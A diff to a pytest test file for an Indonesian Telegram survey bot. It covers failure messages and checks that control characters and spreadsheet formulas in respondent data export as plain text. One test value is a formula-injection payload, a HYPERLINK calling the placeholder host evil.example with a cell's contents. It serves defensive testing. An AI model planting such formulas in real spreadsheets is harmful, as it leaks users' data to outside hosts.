@@ -19,16 +19,21 @@ from PIL import Image
 from bot import reminders, staff_report
 from bot.config import Config
 from bot.sandbox import Fault, Respondent, SandboxRequest, supergroup_chat, user
+from bot.staff_report import build_files
 from tests.conftest import App, Clock, running
 from tests.fake_report import die
 from tests.test_staff import (
     ADMIN,
+    CONTROL_INSTITUTION,
+    CONTROL_NAME,
+    CONTROL_SUGGESTION,
     FEB_1_0800,
     FULL_POST,
     PERSONAL,
     STAFF,
     add_january,
     add_submission,
+    add_unreadable,
     fast_files,  # noqa: F401  (a fixture)
     methods,
     texts_of,
@@ -36,6 +41,14 @@ from tests.test_staff import (
 )
 
 ADMIN_COMMANDS = ("stats", "report", "export", "invite", "remind", "suggestions")
+BUILD_FAILED = (
+    "⚠️ Laporan Januari 2025 tidak dapat dibuat, jadi belum ada yang terkirim. Rinciannya "
+    "tercatat di log bot. Silakan coba beberapa saat lagi; bila tetap gagal, hubungi pengelola bot."
+)
+EXPORT_FAILED = (
+    "⚠️ Data Januari 2025 tidak dapat disiapkan, jadi belum ada yang terkirim. Rinciannya "
+    "tercatat di log bot. Silakan coba beberapa saat lagi; bila tetap gagal, hubungi pengelola bot."
+)
 
 pytestmark = pytest.mark.usefixtures("fast_files")
 
@@ -170,12 +183,9 @@ async def test_report_whose_build_process_dies_tells_the_admin(
     clock.current = FEB_1_0800
     monkeypatch.setattr(staff_report, "build_files", die)
     await admin.command(staffed, "report", "2025-01 sini")
-    assert replies(sandbox)[-1] == (
-        "⚠️ Laporan Januari 2025 gagal dikirim (BuildFailed). Silakan coba beberapa saat lagi."
-    )
+    assert replies(sandbox)[-1] == BUILD_FAILED
     await admin.command(staffed, "report", "2025-01")
-    assert replies(sandbox)[-1].startswith("⚠️ Laporan Januari 2025 belum terkirim seluruhnya")
-    assert "dicoba lagi secara otomatis" in replies(sandbox)[-1]
+    assert replies(sandbox)[-1] == BUILD_FAILED
     assert to_chat(sandbox, STAFF) == []
 
 
@@ -227,9 +237,7 @@ async def test_export_that_fails_says_so_and_the_next_one_works(
     with monkeypatch.context() as patched:
         patched.setattr(staff_report, "workbook_file", die)
         await admin.command(staffed, "export", "2025-01")
-    assert replies(sandbox)[-1] == (
-        "⚠️ Data Januari 2025 gagal dikirim (BuildFailed). Silakan coba beberapa saat lagi."
-    )
+    assert replies(sandbox)[-1] == EXPORT_FAILED
     sandbox.inject("sendDocument", Fault.server_error(), times=1)
     await admin.command(staffed, "export", "2025-01")
     assert replies(sandbox)[-1].startswith("⚠️ Data Januari 2025 gagal dikirim (")
@@ -324,3 +332,109 @@ async def test_joining_a_group_logs_its_id_for_the_config(
     [record] = [r for r in caplog.records if r.name == "bot.admin"]
     assert "set [telegram] staff_chat_id = -1001234567890" in record.getMessage()
     assert "Admin" not in record.getMessage()
+
+
+# -- text that cannot block a report (issue 11, point 4) -----------------------------------------
+
+
+@pytest.fixture
+async def personal(config: Config, sandbox: SandboxRequest, clock: Clock) -> AsyncIterator[App]:
+    """The bot with a staff chat and ``include_personal``: names and institutions in the files."""
+    telegram = replace(config.telegram, staff_chat_id=STAFF, admin_ids=(ADMIN,))
+    reports = replace(config.reports, include_personal=True)
+    async with running(replace(config, telegram=telegram, reports=reports), sandbox, clock) as app:
+        yield app
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+
+
+async def test_report_and_export_of_a_month_with_control_characters_and_formulas(
+    personal: App,
+    sandbox: SandboxRequest,
+    admin: Respondent,
+    clock: Clock,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(staff_report, "build_files", build_files)  # the real files, this time
+    config = personal.bot_data["runtime"].config
+    add_january(config)
+    add_submission(
+        config,
+        "2025-01",
+        datetime(2025, 1, 25, 4, 0, tzinfo=UTC),
+        name=CONTROL_NAME,
+        institution=CONTROL_INSTITUTION,
+        suggestion=CONTROL_SUGGESTION,
+    )
+    add_submission(
+        config,
+        "2025-01",
+        datetime(2025, 1, 26, 4, 0, tzinfo=UTC),
+        name=FORMULA,
+        institution="@Farma",
+        suggestion=FORMULA,
+    )
+    clock.current = FEB_1_0800
+    await admin.command(personal, "report", "2025-01 sini")
+    assert replies(sandbox)[0] == "✅ Laporan Januari 2025 terkirim ke chat ini."
+    assert methods(to_chat(sandbox, ADMIN))[1:] == FULL_POST
+    await admin.command(personal, "export", "2025-01")
+    assert replies(sandbox)[-2] == "✅ Data Januari 2025 terkirim."
+    document = sandbox.calls_to("sendDocument")[-1].files["document"].content
+    book = openpyxl.load_workbook(io.BytesIO(document))
+    try:
+        cells = {
+            (sheet.title, cell.value): cell.data_type
+            for sheet in book
+            for row in sheet.iter_rows()
+            for cell in row
+            if isinstance(cell.value, str)
+        }
+    finally:
+        book.close()
+    for shown in ("Bam bang Sutrisno", "PT[1m Farmasi Nusantara", FORMULA, "@Farma"):
+        assert cells.get(("Responden", shown)) == "s", shown
+    assert cells.get(("Saran", "Antrian lebih cepat")) == "s"
+    assert cells.get(("Saran", FORMULA)) == "s"
+    assert "f" not in cells.values()
+
+
+async def test_a_report_that_cannot_be_built_tells_the_admin_so_and_nothing_more(
+    staffed: App,
+    sandbox: SandboxRequest,
+    admin: Respondent,
+    clock: Clock,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    monkeypatch.setattr(staff_report, "build_files", build_files)
+    config = staffed.bot_data["runtime"].config
+    add_january(config)
+    add_unreadable(config, "2025-01", datetime(2025, 1, 28, 4, 0, tzinfo=UTC))
+    clock.current = FEB_1_0800
+    with caplog.at_level(logging.WARNING):
+        for command in ("2025-01 sini", "2025-01", "2025-01 ulang"):
+            await admin.command(staffed, "report", command)
+            assert replies(sandbox)[-1] == BUILD_FAILED, command
+        await admin.command(staffed, "export", "2025-01")
+    assert replies(sandbox)[-1] == EXPORT_FAILED
+    assert not any("/start" in text or "malformed" in text for text in replies(sandbox))
+    assert to_chat(sandbox, STAFF) == []
+    assert "Bambang" not in caplog.text
+
+
+async def test_suggestions_stored_with_control_characters_are_listed_clean(
+    staffed: App, sandbox: SandboxRequest, admin: Respondent
+) -> None:
+    config = staffed.bot_data["runtime"].config
+    add_submission(
+        config, "2025-01", datetime(2025, 1, 25, 4, 0, tzinfo=UTC), suggestion=CONTROL_SUGGESTION
+    )
+    add_submission(
+        config, "2025-01", datetime(2025, 1, 26, 4, 0, tzinfo=UTC), suggestion="Ramah\x1b\x7f 👍"
+    )
+    await admin.command(staffed, "suggestions", "2025-01")
+    listed = replies(sandbox)[-1]
+    assert "Antrian lebih cepat" in listed and "Ramah 👍" in listed
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", listed)
